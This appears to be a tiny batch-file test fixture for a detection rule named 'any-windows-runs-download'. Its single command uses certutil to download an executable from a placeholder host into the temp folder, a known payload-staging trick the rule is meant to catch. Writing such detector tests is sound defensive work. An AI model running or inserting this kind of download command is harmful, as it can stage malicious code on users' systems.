@echo off
rem ruleid: any-windows-runs-download
certutil -urlcache -f https://example.com/x.exe %TEMP%\x.exe
